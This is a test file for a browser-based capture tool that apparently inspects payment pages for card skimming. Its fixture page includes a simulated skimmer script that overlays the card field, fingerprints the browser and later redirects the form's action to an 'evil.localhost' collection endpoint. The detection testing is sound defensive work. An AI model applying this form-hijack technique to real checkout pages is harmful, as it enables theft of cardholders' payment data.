import { readdirSync, readFileSync } from 'node:fs'
import type { CaptureProgress } from '@tillwatch/core/capture'
import { atDepth } from '@tillwatch/testbed/depth'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type RunningBrowser, takeCapture } from '#index.ts'
import { capture, page, type Site, serve, startBrowser } from './fixture.ts'

let browser: RunningBrowser
let site: Site

const provider = '<form><label>Card number <input name="number" autocomplete="cc-number"></label></form>'

beforeAll(async () => {
  site = await serve({
    '/': page(
      `<h1>Checkout</h1><div id="cookie-banner"><button id="all">Accept all</button></div>
<form id="f" action="/pay" method="post"><label for="n">Card number</label><input id="n" name="cardnumber"><input name="exp" placeholder="MM/YY"><input name="cvc" autocomplete="cc-csc"></form>
<div id="over" class="fake" style="position:absolute;width:400px;height:60px"></div>
<iframe id="psp" src="http://psp.localhost:PORT/fields" style="width:400px;height:90px"></iframe>
<iframe sandbox srcdoc="<p>advert</p>"></iframe>
<script src="/shop.js"></script>`,
    ),
    '/shop.js': `const box = document.getElementById('n').getBoundingClientRect()
Object.assign(document.getElementById('over').style, { left: box.left + 'px', top: box.top + 'px' })
document.getElementById('all').addEventListener('click', () => document.head.append(Object.assign(document.createElement('script'), { src: '/after-consent.js' })))
const extra = document.createElement('input'); extra.name = 'email'; extra.type = 'email'; document.getElementById('f').append(extra)
const frame = document.createElement('iframe'); frame.src = 'http://psp.localhost:PORT/inserted'; document.body.append(frame)
history.pushState({}, '', '/step-2'); window.client = navigator.userAgent + ' ' + innerWidth + ' ' + navigator.maxTouchPoints + ' ' + navigator.webdriver
eval('window.saw = "' + window.client + '"')
setTimeout(() => document.getElementById('f').setAttribute('action', 'http://evil.localhost:PORT/collect'), 12000)`,
    '/after-consent.js': 'window.m_after_consent = 1',
    '/fields': page(provider),
    '/by-script': page('<script>location.replace("/cart")</script>'),
    '/by-refresh': page('<meta http-equiv="refresh" content="0; url=/cart">'),
    '/by-history': page('<p>Your cart is empty.</p><script>history.replaceState({}, "", "/cart")</script>'),
    '/cart': page('<p>Your cart is empty.</p><a href="/">On to the shop</a>'),
    '/inserted': page('<p>inserted</p>'),
    '/spins': page('<script>for (;;) {}</script>'),
    '/slow.js': (_incoming, outgoing) =>
      void setTimeout(() => outgoing.writeHead(200, { 'content-type': 'text/javascript' }).end('1'), 2_500),
    '/slow': page('<p>Slow</p><script src="/slow.js"></script>'),
  })
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  await site?.close()
})

describe('a capture of a payment page', () => {
  it('has its frames, forms, fields, authors and what lies over a field', async () => {
    const progress: CaptureProgress[] = []
    const bundle = await capture(browser, site.url('/'), { onProgress: (one) => progress.push(one) })
    const { capture: taken } = bundle
    const shop = taken.scripts.find((script) => script.url === site.url('/shop.js'))

    expect(taken.fields.map((field) => [field.kind, field.name])).toEqual(
      expect.arrayContaining([
        ['card-number', 'cardnumber'],
        ['card-expiry', 'exp'],
        ['card-cvc', 'cvc'],
        ['email', 'email'],
        ['card-number', 'number'],
      ]),
    )
    const number = taken.fields.find((field) => field.name === 'cardnumber')
    expect(number).toMatchObject({ visible: true, coveredBy: 'div#over.fake', label: 'Card number', formId: taken.forms[0]?.id })
    expect(taken.fields.find((field) => field.name === 'email')?.initiators[0]).toMatchObject({ scriptId: shop?.id, evidence: 'node' })

    const psp = taken.frames.find((frame) => frame.url.endsWith('/fields'))
    expect(psp).toMatchObject({ origin: `http://psp.localhost:${site.port}`, sandboxed: false, initiators: [], detached: false })
    expect(psp?.box?.width).toBeGreaterThan(300)
    const field = taken.fields.find((one) => one.frameId === psp?.id)
    expect(field?.box?.y).toBeGreaterThan(psp?.box?.y ?? Number.POSITIVE_INFINITY)
    expect(taken.frames.filter((frame) => frame.sandboxed)).toHaveLength(1)
    expect(taken.frames.find((frame) => frame.url.endsWith('/inserted'))?.initiators[0]).toMatchObject({
      scriptId: shop?.id,
      evidence: 'frame',
    })

    expect(taken.forms[0]).toMatchObject({ method: 'post', action: site.url('/pay'), actionLater: site.url('/collect', 'evil.localhost') })
    expect(taken.page.historyChanges).toEqual([site.url('/step-2')])
    expect(taken.scripts.find((script) => script.url === site.url('/after-consent.js'))).toMatchObject({
      state: 'ran',
      phase: 'interaction',
    })

    expect(taken.screenshot).toMatchObject({ width: 1366, height: 900 })
    expect(
      Buffer.from(bundle.screenshot ?? [])
        .subarray(1, 4)
        .toString(),
    ).toBe('PNG')
    const har = bundle.har as { log: { version: string; entries: { request: { url: string } }[] } }
    expect(har.log.version).toBe('1.2')
    expect(har.log.entries.map((entry) => entry.request.url)).toContain(site.url('/shop.js'))

    const stages = progress.map((one) => one.stage)
    expect([...new Set(stages)]).toEqual([
      'opening',
      'loading',
      'settling',
      'interacting',
      'arming',
      'typing',
      'searching',
      'pressing',
      'leaving',
      'collecting',
      'done',
    ])
    expect(progress.flatMap((one) => one.newHosts)).toContain(`psp.localhost:${site.port}`)
  })

  it.each([
    ['desktop', /Linux x86_64.* Chrome\/\d+\.0\.0\.0 Safari\/537\.36 1366 0 false/],
    ['mobile', /Android 10; K.* Mobile Safari\/537\.36 \d+ 5 false/],
  ] as const)('looks like an ordinary browser (%s)', async (profile, expected) => {
    const { capture: taken, bodies } = await capture(browser, site.url('/'), { profile, depth: 'passive' })
    const seen = taken.scripts.find((script) => script.kind === 'eval')
    expect(Buffer.from(bodies.get(seen?.textSha256 ?? '') ?? []).toString()).toMatch(expected)
    expect(taken.request.profile).toBe(profile)
  })
})

describe('visits that share a browser', () => {
  it('keep their evidence apart, at the same time', async () => {
    const all = await Promise.all(
      [site.url('/'), site.url('/fields', 'psp.localhost'), site.url('/')].map((url) => capture(browser, url, { depth: 'passive' })),
    )
    expect(all.map((one) => one.capture.outcome.status)).toEqual(['complete', 'complete', 'complete'])
    expect(all[1]?.capture.requests.map((request) => request.url)).toEqual([site.url('/fields', 'psp.localhost')])
    expect(all[0]?.capture.scripts.map((script) => script.textSha256)).toEqual(all[2]?.capture.scripts.map((script) => script.textSha256))
  })
})

describe('no browser process outlives its visit', () => {
  const mine = () =>
    readdirSync('/proc').filter((pid) => {
      if (!/^\d+$/.test(pid) || Number(pid) === browser.pid) return false
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(`tillwatch-browser-${process.pid}-`)
      } catch {
        // It ended while we looked.
        return false
      }
    })

  it.each(atDepth(['/spins'], ['/', '/spins', '/nowhere']))('of %s', async (path) => {
    const before = mine()
    await takeCapture(site.url(path), { env: process.env, allowPrivate: ['127.0.0.1', '[::1]'], timeoutMs: 8_000 })
    expect(mine().filter((pid) => !before.includes(pid))).toEqual([])
  })

  it('and a visit whose browser is killed ends at once, as failed', async () => {
    const own = await startBrowser()
    const taken = capture(own, site.url('/slow'), { depth: 'passive' })
    setTimeout(() => process.kill(own.pid, 'SIGKILL'), 1_000)
    const { capture: made } = await taken
    expect(made.outcome).toMatchObject({ status: 'failed', code: 'browser-failed' })
    expect(made.durationMs).toBeLessThan(6_000)
    await own.close()
  })
})

describe('a page that sends the visit elsewhere by itself', () => {
  it.each(['/by-script', '/by-refresh'])('by %s is told by where it ended', async (path) => {
    const { page: told } = (await capture(browser, site.url(path))).capture
    expect([told.finalUrl, told.shownUrl]).toEqual([site.url('/cart'), undefined])
  })
  it('by changing the address alone is told by the address that it shows', async () => {
    const { page: told } = (await capture(browser, site.url('/by-history'))).capture
    expect([told.finalUrl, told.shownUrl]).toEqual([site.url('/by-history'), site.url('/cart')])
  })
})
